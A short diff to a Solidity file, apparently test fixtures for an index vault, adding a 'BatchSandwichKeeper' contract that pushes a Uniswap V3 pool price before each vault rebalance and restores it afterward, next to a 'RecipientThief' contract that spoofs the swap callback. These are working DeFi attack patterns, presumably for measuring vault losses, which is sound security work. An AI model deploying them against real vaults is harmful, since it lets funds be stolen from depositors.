@@ -43,3 +43,23 @@ contract RecipientThief {
         vault.uniswapV3SwapCallback(amount0, amount1, data); // msg.sender is this contract, not the pool
     }
 }
+
+/// @notice A keeper contract that, in one transaction, sandwiches rebalances of several vaults
+///         in the same pool: before each vault it pushes the price to `pushTo`, at the end it
+///         restores the starting price (the "ten vaults in one transaction" attack).
+contract BatchSandwichKeeper is PoolActor {
+    function sandwichMany(
+        IIndexVault[] calldata vaults,
+        address pool,
+        uint160 pushTo,
+        IIndexVault.Leg[][] calldata sells,
+        IIndexVault.Leg[][] calldata buys
+    ) external returns (uint256 loss) {
+        (uint160 start,,,,,,) = IUniswapV3Pool(pool).slot0();
+        for (uint256 i; i < vaults.length; ++i) {
+            this.pushPrice(pool, pushTo);
+            loss += vaults[i].rebalance(sells[i], buys[i], block.timestamp);
+        }
+        this.pushPrice(pool, start);
+    }
+}
